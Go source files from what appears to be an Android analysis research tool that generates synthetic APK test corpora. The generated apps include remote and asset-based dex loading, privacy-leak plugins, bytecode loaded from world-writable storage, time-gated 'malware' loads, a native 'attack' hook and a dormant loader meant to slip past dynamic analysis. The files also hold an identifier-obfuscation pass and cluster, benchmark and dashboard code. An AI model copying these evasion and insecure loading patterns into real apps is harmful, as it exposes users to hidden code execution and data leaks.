	switch s.MalwareFamily {
	case "swiss":
		if err := s.addGatedDexMalware(b, a, entry, cache.swiss, "upd"); err != nil {
			return nil, err
		}
	case "adware":
		if err := s.addGatedDexMalware(b, a, entry, cache.adware, "push"); err != nil {
			return nil, err
		}
	case "chathook":
		if err := s.addChathook(b, a, entry, cache); err != nil {
			return nil, err
		}
	}

	if s.Reflection {
		addReflectionMarker(host, hostClass)
	}

	entry.ReturnVoid().Done()

	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		return nil, fmt.Errorf("corpus: %s: %w", s.Pkg, err)
	}
	a.Dex = dexBytes
	return a, nil
}

func (s *Spec) minSDK() int {
	if s.MinSDK != 0 {
		return s.MinSDK
	}
	return 16
}

// cacheDir returns the app's private cache directory.
func (s *Spec) cacheDir() string { return android.InternalDir(s.Pkg) + "cache/" }

// assetDir returns where installed assets land.
func (s *Spec) assetDir() string { return android.InternalDir(s.Pkg) + "assets/" }

// odexDir is the optimized-output directory apps pass to DexClassLoader.
func (s *Spec) odexDir() string { return s.cacheDir() + "odex" }

// emitAssetCopy appends code copying an installed asset to dst.
// Registers 1-5 are clobbered.
func emitAssetCopy(m *dex.MethodBuilder, assetPath, dst string) {
	m.NewInstance(1, "java.io.FileInputStream").
		ConstString(2, assetPath).
		InvokeDirect(refFISInit, 1, 2).
		NewInstance(3, "java.io.FileOutputStream").
		ConstString(4, dst).
		InvokeDirect(refFOSInit, 3, 4).
		InvokeVirtual(refReadAll, 1).
		MoveResult(5).
		InvokeVirtual(refFOSWrite, 3, 5).
		InvokeVirtual(refFOSClose, 3)
}

// emitDexLoad appends a DexClassLoader construction over the register
// holding the dex path (pathReg) using scratch registers 6-7.
func emitDexLoad(m *dex.MethodBuilder, pathReg int, odexDir string) {
	m.ConstString(6, odexDir).
		NewInstance(7, "dalvik.system.DexClassLoader").
		InvokeDirect(refDexLoaderInit, 7, pathReg, 6, 0, 0)
}

// addAdSDK wires the Google-Ads-style SDK: extract the ad payload to a
// temporary cache file, load it, delete it (the paper's
// "/data/data/AppPackageName/cache/ad*" pattern).
func (s *Spec) addAdSDK(b *dex.Builder, a *apk.APK, entry *dex.MethodBuilder, cache *payloadCache) error {
	a.Assets["ad_payload.bin"] = cache.ad
	sdk := b.Class("com.google.ads.AdLoader", "java.lang.Object")
	m := sdk.Method("loadAd", dex.ACCPublic, 8, "V")
	tmp := s.cacheDir() + "ad1.dex"
	emitAssetCopy(m, s.assetDir()+"ad_payload.bin", tmp)
	m.ConstString(4, tmp)
	emitDexLoad(m, 4, s.odexDir())
	m.NewInstance(1, "java.io.File").
		InvokeDirect(refFileInit, 1, 4).
		InvokeVirtual(refFileDelete, 1).
		ReturnVoid().Done()
	entry.NewInstance(1, "com.google.ads.AdLoader").
		InvokeVirtual(dex.MethodRef{Class: "com.google.ads.AdLoader", Name: "loadAd",
			Sig: "()V"}, 1)
	return nil
}

// addBaiduSDK wires the remote-fetch ad SDK (Table V): download each
// plugin from the Baidu server and load it. Most apps fetch a single JAR;
// com.classicalmuseumad.cnad fetches a JAR and an APK (paper §V-B).
func (s *Spec) addBaiduSDK(b *dex.Builder, entry *dex.MethodBuilder) {
	urls := []string{s.RemoteURL}
	exts := []string{"jar"}
	if s.RemoteURL2 != "" {
		urls = append(urls, s.RemoteURL2)
		exts = append(exts, "apk")
	}
	sdk := b.Class("com.baidu.mobads.AdView", "java.lang.Object")
	m := sdk.Method("fetchAndLoad", dex.ACCPublic, 10, "V")
	for i, url := range urls {
		dest := fmt.Sprintf("%sbaidu_plugin%d.%s", s.cacheDir(), i, exts[i])
		skip := fmt.Sprintf("offline_%d", i)
		m.NewInstance(1, "java.net.URL").
			ConstString(2, url).
			InvokeDirect(refURLInit, 1, 2).
			InvokeVirtual(refOpenConn, 1).
			MoveResult(3).
			InvokeVirtual(refGetInput, 3).
			MoveResult(4).
			IfEqz(4, skip).
			NewInstance(5, "java.io.FileOutputStream").
			ConstString(8, dest).
			InvokeDirect(refFOSInit, 5, 8).
			InvokeVirtual(refStreamReadAll, 4).
			MoveResult(7).
			InvokeVirtual(refFOSWrite, 5, 7).
			InvokeVirtual(refFOSClose, 5)
		emitDexLoad(m, 8, s.odexDir())
		m.Label(skip)
	}
	m.ReturnVoid().Done()
	entry.NewInstance(2, "com.baidu.mobads.AdView").
		InvokeVirtual(dex.MethodRef{Class: "com.baidu.mobads.AdView", Name: "fetchAndLoad",
			Sig: "()V"}, 2)
}

// addGenericPluginSDK wires a generic third-party plugin loader whose
// payload carries this app's assigned privacy leaks.
func (s *Spec) addGenericPluginSDK(b *dex.Builder, a *apk.APK, entry *dex.MethodBuilder, cache *payloadCache) error {
	payload, err := leakPayloadDex(s.Pkg, s.LeakThird, s.LeakOwn, s.ReadSettings)
	if err != nil {
		return err
	}
	a.Assets["plugin.bin"] = payload
	dst := s.cacheDir() + "plugin.dex"
	sdk := b.Class("com.sdk.plugin.PluginManager", "java.lang.Object")
	m := sdk.Method("installPlugin", dex.ACCPublic, 8, "V")
	emitAssetCopy(m, s.assetDir()+"plugin.bin", dst)
	m.ConstString(4, dst)
	emitDexLoad(m, 4, s.odexDir())
	m.ReturnVoid().Done()
	entry.NewInstance(3, "com.sdk.plugin.PluginManager").
		InvokeVirtual(dex.MethodRef{Class: "com.sdk.plugin.PluginManager",
			Name: "installPlugin", Sig: "()V"}, 3)
	return nil
}

// addOwnUpdater wires a developer-written update loader (own entity).
func (s *Spec) addOwnUpdater(b *dex.Builder, a *apk.APK, entry *dex.MethodBuilder, cache *payloadCache) error {
	payload, err := leakPayloadDex(s.Pkg, s.LeakThird, s.LeakOwn, s.ReadSettings)
	if err != nil {
		return err
	}
	a.Assets["update.bin"] = payload
	dst := android.InternalDir(s.Pkg) + "files/update.dex"
	upd := b.Class(s.Pkg+".Updater", "java.lang.Object")
	m := upd.Method("applyUpdate", dex.ACCPublic, 8, "V")
	emitAssetCopy(m, s.assetDir()+"update.bin", dst)
	m.ConstString(4, dst)
	emitDexLoad(m, 4, s.odexDir())
	m.ReturnVoid().Done()
	entry.NewInstance(4, s.Pkg+".Updater").
		InvokeVirtual(dex.MethodRef{Class: s.Pkg + ".Updater", Name: "applyUpdate",
			Sig: "()V"}, 4)
	return nil
}

// addVulnExternal wires the Table IX pattern: the app caches its loadable
// bytecode on world-writable external storage, then loads it.
func (s *Spec) addVulnExternal(b *dex.Builder, a *apk.APK, entry *dex.MethodBuilder, cache *payloadCache) error {
	payload, err := leakPayloadDex(s.Pkg, s.LeakThird, s.LeakOwn, s.ReadSettings)
	if err != nil {
		return err
	}
	a.Assets["sdk.bin"] = payload
	sdPath := android.ExternalRoot + "im_sdk/jar/" + s.Pkg + ".jar"
	upd := b.Class(s.Pkg+".VoiceSdk", "java.lang.Object")
	m := upd.Method("prepare", dex.ACCPublic, 8, "V")
	emitAssetCopy(m, s.assetDir()+"sdk.bin", sdPath)
	m.ConstString(4, sdPath)
	emitDexLoad(m, 4, s.odexDir())
	m.ReturnVoid().Done()
	entry.NewInstance(5, s.Pkg+".VoiceSdk").
		InvokeVirtual(dex.MethodRef{Class: s.Pkg + ".VoiceSdk", Name: "prepare",
			Sig: "()V"}, 5)
	return nil
}

// addDormantDexLoader plants loader code that is never invoked: the
// static pre-filter sees it, the dynamic analysis never fires.
func addDormantDexLoader(host *dex.ClassBuilder) {
	m := host.Method("prefetchPlugin", dex.ACCPublic, 8, "V")
	m.ConstString(1, "/data/local/tmp/plugin.dex").
		ConstString(2, "/data/local/tmp/odex").
		NewInstance(3, "dalvik.system.DexClassLoader").
		InvokeDirect(refDexLoaderInit, 3, 1, 2, 0, 0).
		ReturnVoid().Done()
}

// addAdNative wires the ad SDK's native renderer load (third party).
func (s *Spec) addAdNative(b *dex.Builder, a *apk.APK, entry *dex.MethodBuilder, cache *payloadCache) error {
	lib, err := cache.lib("libadcore.so", func() (*nativebin.Library, error) {
		return benignLib("libadcore.so", 1)
	})
	if err != nil {
		return err
	}
	a.NativeLibs["libadcore.so"] = lib
	sdk := b.Class("com.google.ads.NativeAdRenderer", "java.lang.Object")
	m := sdk.Method("prepare", dex.ACCPublic, 3, "V")
	m.ConstString(1, "adcore").
		InvokeStatic(refLoadLibrary, 1).
		ReturnVoid().Done()
	entry.NewInstance(6, "com.google.ads.NativeAdRenderer").
		InvokeVirtual(dex.MethodRef{Class: "com.google.ads.NativeAdRenderer",
			Name: "prepare", Sig: "()V"}, 6)
	return nil
}

// addEngineSDK wires a game-engine SDK's native load (third party).
func (s *Spec) addEngineSDK(b *dex.Builder, a *apk.APK, entry *dex.MethodBuilder, cache *payloadCache) error {
	lib, err := cache.lib("libengine.so", func() (*nativebin.Library, error) {
		return benignLib("libengine.so", 2)
	})
	if err != nil {
		return err
	}
	a.NativeLibs["libengine.so"] = lib
	sdk := b.Class("com.unity3d.player.UnityPlayer", "java.lang.Object")
	m := sdk.Method("init", dex.ACCPublic, 3, "V")
	m.ConstString(1, "engine").
		InvokeStatic(refLoadLibrary, 1).
		ReturnVoid().Done()
	entry.NewInstance(6, "com.unity3d.player.UnityPlayer").
		InvokeVirtual(dex.MethodRef{Class: "com.unity3d.player.UnityPlayer",
			Name: "init", Sig: "()V"}, 6)
	return nil
}

// addOwnNative wires a developer-initiated library load (own entity).
func (s *Spec) addOwnNative(a *apk.APK, entry *dex.MethodBuilder, cache *payloadCache) error {
	lib, err := cache.lib("libgame.so", func() (*nativebin.Library, error) {
		return benignLib("libgame.so", 3)
	})
	if err != nil {
		return err
	}
	a.NativeLibs["libgame.so"] = lib
	entry.ConstString(7, "game").
		InvokeStatic(refLoadLibrary, 7)
	return nil
}

// addGatedDexMalware wires a gated malicious bytecode load: each gate
// failing skips the load entirely (Table VIII behaviour).
func (s *Spec) addGatedDexMalware(b *dex.Builder, a *apk.APK, entry *dex.MethodBuilder, payload []byte, name string) error {
	a.Assets[name+".bin"] = payload
	dst := s.cacheDir() + name + ".dex"
	gate := GateNone
	if len(s.Gates) > 0 {
		gate = s.Gates[0]
	}
	skip := "skip_" + name
	emitGate(entry, gate, s.releaseMillis(), skip)
	emitAssetCopy(entry, s.assetDir()+name+".bin", dst)
	entry.ConstString(4, dst)
	emitDexLoad(entry, 4, s.odexDir())
	entry.Label(skip)
	return nil
}

// addChathook wires the native malware: for each malicious file, a gated
// loadLibrary of a distinct hook lib followed by the native attack call.
func (s *Spec) addChathook(b *dex.Builder, a *apk.APK, entry *dex.MethodBuilder, cache *payloadCache) error {
	hook := b.Class("com.hook.Chat", "java.lang.Object")
	hook.NativeMethod("attack", "I")
	files := s.MalwareFiles
	if files == 0 {
		files = 1
	}
	for i := 0; i < files; i++ {
		soname := "libhook.so"
		if i > 0 {
			soname = fmt.Sprintf("libhook%d.so", i+1)
		}
		key := fmt.Sprintf("%s-%d", soname, i)
		libBytes, err := cache.lib(key, func() (*nativebin.Library, error) {
			return chathookLib(soname, i)
		})
		if err != nil {
			return err
		}
		a.NativeLibs[soname] = libBytes
		gate := GateNone
		if i < len(s.Gates) {
			gate = s.Gates[i]
		}
		skip := fmt.Sprintf("skip_hook_%d", i)
		emitGate(entry, gate, s.releaseMillis(), skip)
		entry.ConstString(1, trimLib(soname)).
			InvokeStatic(refLoadLibrary, 1).
			NewInstance(2, "com.hook.Chat").
			InvokeVirtual(dex.MethodRef{Class: "com.hook.Chat", Name: "attack",
				Sig: "()I"}, 2).
			Label(skip)
	}
	return nil
}

func trimLib(soname string) string {
	name := soname
	if len(name) > 3 && name[:3] == "lib" {
		name = name[3:]
	}
	if len(name) > 3 && name[len(name)-3:] == ".so" {
		name = name[:len(name)-3]
	}
	return name
}

func (s *Spec) releaseMillis() int64 {
	if s.ReleaseDate.IsZero() {
		return time.Date(2016, 6, 1, 0, 0, 0, 0, time.UTC).UnixMilli()
	}
	return s.ReleaseDate.UnixMilli()
}

// addReflectionMarker plants a Class.forName compatibility shim —
// realistic reflection usage the detector counts.
func addReflectionMarker(host *dex.ClassBuilder, hostClass string) {
	m := host.Method("resolveCompat", dex.ACCPublic, 4, "V")
	m.ConstString(1, hostClass).
		InvokeStatic(refForName, 1).
		MoveResult(2).
		InvokeVirtual(dex.MethodRef{Class: "java.lang.Class", Name: "getName",
			Sig: "()Ljava/lang/String;"}, 2).
		ReturnVoid().Done()
}
