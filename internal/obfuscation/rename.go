package obfuscation

import (
	"fmt"

	"github.com/dydroid/dydroid/internal/apk"
	"github.com/dydroid/dydroid/internal/dex"
)

// LexicalRename applies ProGuard-style identifier renaming to the app:
// every application class moves to the single-letter package "o" with a
// generated short name, and non-framework method and field names shrink
// to a, b, c, ... Framework callback methods (the "on*" lifecycle and UI
// surface), constructors and native methods keep their names, exactly as
// ProGuard keeps overrides of library methods. The manifest is rewritten
// to the new component names. The input is not modified.
func LexicalRename(a *apk.APK) (*apk.APK, error) {
	if a.Dex == nil {
		return a.Clone(), nil
	}
	df, err := dex.Decode(a.Dex)
	if err != nil {
		return nil, fmt.Errorf("obfuscation: rename: %w", err)
	}

	classMap := make(map[string]string, len(df.Classes))
	names := newNameSeq()
	for _, c := range df.Classes {
		classMap[c.Name] = "o." + names.next()
	}
	methodMap := make(map[string]map[string]string, len(df.Classes))
	fieldMap := make(map[string]map[string]string, len(df.Classes))
	for _, c := range df.Classes {
		mm := make(map[string]string)
		mnames := newNameSeq()
		for _, m := range c.Methods {
			if keepMethodName(m) {
				continue
			}
			mm[m.Name] = mnames.next()
		}
		methodMap[c.Name] = mm
		fm := make(map[string]string)
		fnames := newNameSeq()
		for _, fl := range c.Fields {
			fm[fl.Name] = fnames.next()
		}
		fieldMap[c.Name] = fm
	}

	mapClass := func(name string) string {
		if n, ok := classMap[name]; ok {
			return n
		}
		return name
	}
	mapMethod := func(class, name string) string {
		if mm, ok := methodMap[class]; ok {
			if n, ok := mm[name]; ok {
				return n
			}
		}
		return name
	}
	mapField := func(class, name string) string {
		if fm, ok := fieldMap[class]; ok {
			if n, ok := fm[name]; ok {
				return n
			}
		}
		return name
	}

	out := &dex.File{}
	for _, c := range df.Classes {
		nc := &dex.Class{
			Name:       mapClass(c.Name),
			Super:      mapClass(c.Super),
			Flags:      c.Flags,
			SourceFile: "", // ProGuard strips source attribution
		}
		for _, ifc := range c.Interfaces {
			nc.Interfaces = append(nc.Interfaces, mapClass(ifc))
		}
		for _, fl := range c.Fields {
			nc.Fields = append(nc.Fields, &dex.Field{
				Name: mapField(c.Name, fl.Name), Type: fl.Type, Flags: fl.Flags,
			})
		}
		for _, m := range c.Methods {
			nm := &dex.Method{
				Name:      mapMethod(c.Name, m.Name),
				Params:    append([]string(nil), m.Params...),
				Return:    m.Return,
				Flags:     m.Flags,
				Registers: m.Registers,
			}
			for _, in := range m.Code {
				ni := in
				switch {
				case in.Op == dex.OpNewInstance || in.Op == dex.OpCheckCast || in.Op == dex.OpInstanceOf:
					ni.Str = mapClass(in.Str)
				case in.Op.IsInvoke():
					ni.Method = dex.MethodRef{
						Class: mapClass(in.Method.Class),
						Name:  mapMethod(in.Method.Class, in.Method.Name),
						Sig:   in.Method.Sig,
					}
					ni.Args = append([]int(nil), in.Args...)
				case in.Op == dex.OpIGet || in.Op == dex.OpIPut || in.Op == dex.OpSGet || in.Op == dex.OpSPut:
					ni.Field = dex.FieldRef{
						Class: mapClass(in.Field.Class),
						Name:  mapField(in.Field.Class, in.Field.Name),
						Type:  in.Field.Type,
					}
				}
				nm.Code = append(nm.Code, ni)
			}
			nc.Methods = append(nc.Methods, nm)
		}
		out.Classes = append(out.Classes, nc)
	}

	encoded, err := dex.Encode(out)
	if err != nil {
		return nil, fmt.Errorf("obfuscation: rename: %w", err)
	}
	cp := a.Clone()
	cp.Dex = encoded
	cp.Manifest.Application.Name = mapClass(cp.Manifest.Application.Name)
	renameComponents(cp.Manifest.Application.Activities, mapClass)
	renameComponents(cp.Manifest.Application.Services, mapClass)
	renameComponents(cp.Manifest.Application.Receivers, mapClass)
	renameComponents(cp.Manifest.Application.Providers, mapClass)
	return cp, nil
}

func renameComponents(comps []apk.Component, mapClass func(string) string) {
	for i := range comps {
		comps[i].Name = mapClass(comps[i].Name)
	}
}

// keepMethodName reports whether renaming must preserve the method name:
// constructors, framework lifecycle/UI callbacks, and native methods
// (whose JNI symbols embed the name).
func keepMethodName(m *dex.Method) bool {
	if m.Name == "<init>" || m.Name == "<clinit>" {
		return true
	}
	if len(m.Name) > 2 && m.Name[:2] == "on" {
		return true
	}
	return m.Flags&dex.ACCNative != 0
}

// nameSeq yields a, b, ..., z, aa, ab, ... deterministically.
type nameSeq struct{ n int }

func newNameSeq() *nameSeq { return &nameSeq{} }

func (s *nameSeq) next() string {
	n := s.n
	s.n++
	name := ""
	for {
		name = string(rune('a'+n%26)) + name
		n = n/26 - 1
		if n < 0 {
			break
		}
	}
	return name
}
