package cluster

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"sort"
	"sync"

	"github.com/dydroid/dydroid/internal/profile"
)

// ProfilesResponse is the coordinator's federated GET /v1/profiles body:
// every reachable member's profile-window index merged newest first,
// each row tagged with the member that holds it. Like the federated
// fleet view, an unreachable node is counted and named instead of
// failing the request.
type ProfilesResponse struct {
	Nodes        int            `json:"nodes"`
	NodesMissing int            `json:"nodes_missing"`
	Missing      []string       `json:"missing,omitempty"`
	Windows      []profile.Meta `json:"windows"`
}

// handleProfiles federates the profile-window index: every configured
// member's /v1/profiles is fetched concurrently, each row is stamped
// with the member's configured name (the address a follow-up
// /v1/profiles/{id}?node= pin uses), and the union is served newest
// first.
func (c *Coordinator) handleProfiles(w http.ResponseWriter, r *http.Request) {
	c.mu.Lock()
	list := make([]*member, 0, len(c.members))
	for _, m := range c.members {
		list = append(list, m)
	}
	c.mu.Unlock()

	type fetched struct {
		name  string
		metas []profile.Meta
		err   error
	}
	results := make([]fetched, len(list))
	var wg sync.WaitGroup
	for i, m := range list {
		wg.Add(1)
		go func(i int, m *member) {
			defer wg.Done()
			metas, err := c.fetchProfileIndex(r.Context(), m.baseURL)
			results[i] = fetched{name: m.name, metas: metas, err: err}
		}(i, m)
	}
	wg.Wait()

	var missing []string
	windows := []profile.Meta{}
	// The coordinator's own windows join the index under its own name.
	for _, meta := range c.cfg.Profiles.Index() {
		meta.Node = c.cfg.Node
		windows = append(windows, meta)
	}
	for _, f := range results {
		if f.err != nil {
			missing = append(missing, f.name)
			c.reg.Add("cluster.profiles.missing", 1)
			continue
		}
		for _, meta := range f.metas {
			meta.Node = f.name
			windows = append(windows, meta)
		}
	}
	sort.Strings(missing)
	sort.Slice(windows, func(i, j int) bool {
		if !windows[i].StartAt.Equal(windows[j].StartAt) {
			return windows[i].StartAt.After(windows[j].StartAt)
		}
		if windows[i].Node != windows[j].Node {
			return windows[i].Node < windows[j].Node
		}
		return windows[i].ID > windows[j].ID
	})
	writeJSON(w, http.StatusOK, ProfilesResponse{
		Nodes:        len(list),
		NodesMissing: len(missing),
		Missing:      missing,
		Windows:      windows,
	})
}

// fetchProfileIndex pulls one member's window index.
func (c *Coordinator) fetchProfileIndex(ctx context.Context, base string) ([]profile.Meta, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, base+"/v1/profiles", nil)
	if err != nil {
		return nil, err
	}
	resp, err := c.client.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("profiles: status %d", resp.StatusCode)
	}
	var metas []profile.Meta
	if err := json.NewDecoder(io.LimitReader(resp.Body, 8<<20)).Decode(&metas); err != nil {
		return nil, fmt.Errorf("profiles: %w", err)
	}
	return metas, nil
}

// handleProfile fetches one captured window from the fleet. Window IDs
// are per-recorder sequences, so the same ID can exist on several
// members: ?node= pins the member (the federated index names it), and
// without a pin the members are walked in name order and the first
// holder answers. The serving member travels in X-Dydroid-Node, and
// ?format=pprof passes through to the worker untouched.
func (c *Coordinator) handleProfile(w http.ResponseWriter, r *http.Request) {
	id := r.PathValue("id")
	pin := r.URL.Query().Get("node")

	// The coordinator's own ring answers first (or exclusively, when the
	// pin names the coordinator).
	if pin == "" || pin == c.cfg.Node {
		if win := c.cfg.Profiles.Get(id); win != nil {
			w.Header().Set("X-Dydroid-Node", c.cfg.Node)
			if r.URL.Query().Get("format") == "pprof" {
				if len(win.Pprof) == 0 {
					httpError(w, http.StatusNotFound, "window has no pprof bytes")
					return
				}
				w.Header().Set("Content-Type", "application/octet-stream")
				w.Write(win.Pprof)
				return
			}
			writeJSON(w, http.StatusOK, win)
			return
		}
		if pin == c.cfg.Node {
			httpError(w, http.StatusNotFound, "unknown profile window")
			return
		}
	}

	c.mu.Lock()
	list := make([]*member, 0, len(c.members))
	for _, m := range c.members {
		if pin != "" && m.name != pin {
			continue
		}
		list = append(list, m)
	}
	c.mu.Unlock()
	if len(list) == 0 {
		httpError(w, http.StatusNotFound, "unknown node: "+pin)
		return
	}
	sort.Slice(list, func(i, j int) bool { return list[i].name < list[j].name })

	path := "/v1/profiles/" + id
	if f := r.URL.Query().Get("format"); f != "" {
		path += "?format=" + f
	}
	var lastErr error
	sawMiss := false
	for _, m := range list {
		resp, err := c.client.Get(m.baseURL + path)
		if err != nil {
			lastErr = err
			c.noteForward(m, err)
			continue
		}
		c.noteForward(m, nil)
		if resp.StatusCode == http.StatusNotFound {
			sawMiss = true
			io.Copy(io.Discard, resp.Body)
			resp.Body.Close()
			continue
		}
		relay(w, resp, m.name)
		return
	}
	switch {
	case sawMiss:
		httpError(w, http.StatusNotFound, "unknown profile window")
	case lastErr != nil:
		httpError(w, http.StatusBadGateway, "no reachable node for window: "+lastErr.Error())
	default:
		httpError(w, http.StatusServiceUnavailable, "no live nodes")
	}
}

// handleMetricz serves the coordinator's own metrics registry — the
// routing, federation and membership counters — as text, or as a
// Prometheus exposition with ?format=prom.
func (c *Coordinator) handleMetricz(w http.ResponseWriter, r *http.Request) {
	if r.URL.Query().Get("format") == "prom" {
		w.Header().Set("Content-Type", "text/plain; version=0.0.4; charset=utf-8")
		c.reg.WritePrometheus(w)
		return
	}
	w.Header().Set("Content-Type", "text/plain; charset=utf-8")
	io.WriteString(w, c.reg.Snapshot().String())
}
