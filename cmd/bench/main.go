// Command bench runs the recorded-trajectory benchmark harness and
// compares trajectory points.
//
//	bench run  [-name NAME] [-seed N] [-scale F] [-workers N] [-out FILE]
//	bench diff [-threshold PCT] OLD.json NEW.json
//
// `bench run` executes the measurement pipeline over a fixed-seed corpus
// and prints a human-readable table; with -out it also writes the
// schema-versioned JSON trajectory point (the committed BENCH_<n>.json
// files at the repo root). `bench diff` loads two trajectory points and
// reports every metric that regressed beyond the threshold; it exits 1
// when regressions are found so CI can branch on it.
package main

import (
	"flag"
	"fmt"
	"os"

	"github.com/dydroid/dydroid/internal/bench"
)

func main() {
	if len(os.Args) < 2 {
		usage()
		os.Exit(2)
	}
	switch os.Args[1] {
	case "run":
		cmdRun(os.Args[2:])
	case "diff":
		cmdDiff(os.Args[2:])
	default:
		fmt.Fprintf(os.Stderr, "bench: unknown command %q\n", os.Args[1])
		usage()
		os.Exit(2)
	}
}

func usage() {
	fmt.Fprintln(os.Stderr, `usage:
  bench run  [-name NAME] [-seed N] [-scale F] [-workers N] [-out FILE]
  bench diff [-threshold PCT] OLD.json NEW.json`)
}

func cmdRun(args []string) {
	fs := flag.NewFlagSet("bench run", flag.ExitOnError)
	name := fs.String("name", "trajectory", "label recorded in the result")
	seed := fs.Int64("seed", 2016, "corpus generation seed")
	scale := fs.Float64("scale", 0.02, "marketplace scale (1.0 = 58,739 apps)")
	workers := fs.Int("workers", 0, "pipeline parallelism (0 = GOMAXPROCS)")
	out := fs.String("out", "", "write the JSON trajectory point to this file")
	fs.Parse(args)

	res, err := bench.Run(bench.Config{Name: *name, Seed: *seed, Scale: *scale, Workers: *workers})
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	fmt.Print(res.Table())
	if *out != "" {
		if err := res.WriteFile(*out); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		fmt.Printf("\nwrote %s\n", *out)
	}
}

func cmdDiff(args []string) {
	fs := flag.NewFlagSet("bench diff", flag.ExitOnError)
	threshold := fs.Float64("threshold", bench.DefaultRegressionPct, "regression threshold in percent")
	fs.Parse(args)
	if fs.NArg() != 2 {
		usage()
		os.Exit(2)
	}
	base, err := bench.ReadFile(fs.Arg(0))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	head, err := bench.ReadFile(fs.Arg(1))
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	regs := bench.Diff(base, head, *threshold)
	if len(regs) == 0 {
		fmt.Printf("no regressions beyond %.1f%% (%s -> %s)\n", *threshold, fs.Arg(0), fs.Arg(1))
		return
	}
	fmt.Printf("%d regression(s) beyond %.1f%% (%s -> %s):\n", len(regs), *threshold, fs.Arg(0), fs.Arg(1))
	for _, g := range regs {
		fmt.Printf("  %s\n", g)
	}
	os.Exit(1)
}
