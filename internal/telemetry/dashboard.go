package telemetry

import (
	"fmt"
	"html/template"
	"io"
	"sort"
	"strings"
	"time"

	"github.com/dydroid/dydroid/internal/events"
)

// DashboardData is everything the HTML dashboard renders: the fleet
// snapshot, the host's gauge levels (runtime sampler, queue depth, trace
// store occupancy), and identity lines for the header. It is
// deliberately plain data so the daemon handler can assemble it without
// telemetry depending on the service layer.
type DashboardData struct {
	// Title heads the page (e.g. "dydroidd fleet").
	Title string
	// Refresh is the meta-refresh interval in seconds (0 disables).
	Refresh int
	// Header lines identify the build: version, record/snapshot versions.
	Header []KV
	// Snap is the fleet aggregate to render.
	Snap *Snapshot
	// Gauges are the registry's instantaneous levels.
	Gauges map[string]int64
	// Profile is the optional continuous-profiling headline (windows
	// retained, captures, last window), rendered as stat tiles.
	Profile []KV
	// Now stamps the rendering time.
	Now time.Time
}

// KV is one labelled header value.
type KV struct{ Key, Value string }

// barRow is one labelled count with a precomputed meter width.
type barRow struct {
	Label string
	Value string
	// Pct is the meter width as a percentage of the row maximum.
	Pct float64
}

// statTile is one headline number.
type statTile struct {
	Label string
	Value string
	// Alert marks the tile as a problem indicator when its value is
	// non-zero (rendered with the status color plus the label — never
	// color alone).
	Alert bool
}

type stageRow struct {
	Name                     string
	Count                    int64
	Mean, P50, P90, P99, Max string
}

// costRow is one stage's resource-attribution line.
type costRow struct {
	Name               string
	Count              int64
	CPU, CPUPerSpan    string
	Allocs, AllocBytes string
	// Pct is the stage's share of attributed CPU (meter width).
	Pct float64
}

// sloRow is one objective's rendered burn-rate line.
type sloRow struct {
	Name       string
	Target     string
	Fast, Slow string
	Budget     string
	Alert      string
	// Firing marks a non-ok alert for the status color.
	Firing bool
}

type dashView struct {
	Title   string
	Refresh int
	Header  []KV
	Now     string

	Tiles    []statTile
	SLO      []sloRow
	Status   []barRow
	Prev     []barRow
	Entities []barRow
	Stages   []stageRow
	Costs    []costRow
	Slowest  []SlowApp
	Recent   []RecentDCL
	Errors   []RecentError
	Timeline []events.Event
	Gauges   []KV

	SlowDur func(int64) string
}

// RenderDashboard writes the self-refreshing HTML fleet dashboard. The
// page is a single server-rendered document: stat tiles, aggregate
// tables with inline single-hue meters, and the recent-event rings — no
// scripts, no external assets, readable in light and dark mode.
func RenderDashboard(w io.Writer, d DashboardData) error {
	s := d.Snap
	if s == nil {
		s = NewSnapshot(0, 0, 0)
	}
	v := &dashView{
		Title:    d.Title,
		Refresh:  d.Refresh,
		Header:   d.Header,
		Now:      d.Now.UTC().Format(time.RFC3339),
		Slowest:  s.SlowestApps.Entries,
		Recent:   s.RecentDCL.Entries,
		Errors:   s.RecentErrors.Entries,
		Timeline: s.Events.Entries,
	}
	if v.Title == "" {
		v.Title = "fleet observatory"
	}

	v.Tiles = []statTile{
		{Label: "apps analyzed", Value: fmt.Sprintf("%d", s.Apps)},
		{Label: "shards", Value: fmt.Sprintf("%d", s.Shards)},
		{Label: "analysis errors", Value: fmt.Sprintf("%d", s.Errors), Alert: s.Errors > 0},
		{Label: "apps with DCL", Value: fmt.Sprintf("%d", s.Counters["apps.dex-dcl"]+s.Counters["apps.native-dcl"])},
		{Label: "remote code apps", Value: fmt.Sprintf("%d", s.Counters["apps.remote"])},
		{Label: "malware apps", Value: fmt.Sprintf("%d", s.Counters["apps.malware"]), Alert: s.Counters["apps.malware"] > 0},
	}
	for _, r := range s.SLO.Reports(d.Now) {
		row := sloRow{
			Name:   r.Name,
			Target: fmt.Sprintf("%.4g%%", 100*r.Target),
			Fast:   fmt.Sprintf("%.2f×", r.Fast.BurnRate),
			Slow:   fmt.Sprintf("%.2f×", r.Slow.BurnRate),
			Budget: fmt.Sprintf("%.1f%%", 100*r.BudgetUsed),
			Alert:  r.Alert,
			Firing: r.Alert != AlertOK,
		}
		v.SLO = append(v.SLO, row)
		v.Tiles = append(v.Tiles, statTile{
			Label: "SLO " + r.Name, Value: row.Alert, Alert: row.Firing,
		})
	}
	if n, ok := d.Gauges["runtime.goroutines"]; ok {
		v.Tiles = append(v.Tiles, statTile{Label: "goroutines", Value: fmt.Sprintf("%d", n)})
	}
	if n, ok := d.Gauges["runtime.heap_alloc_bytes"]; ok {
		v.Tiles = append(v.Tiles, statTile{Label: "heap", Value: fmtBytes(n)})
	}
	for _, kv := range d.Profile {
		v.Tiles = append(v.Tiles, statTile{Label: kv.Key, Value: kv.Value})
	}

	v.Status = counterBars(s.Counters, "status.", nil)
	v.Prev = []barRow{}
	prevKeys := []struct{ label, key string }{
		{"DEX candidates", "apps.dex-candidate"},
		{"DEX loaders", "apps.dex-dcl"},
		{"native candidates", "apps.native-candidate"},
		{"native loaders", "apps.native-dcl"},
		{"remote code", "apps.remote"},
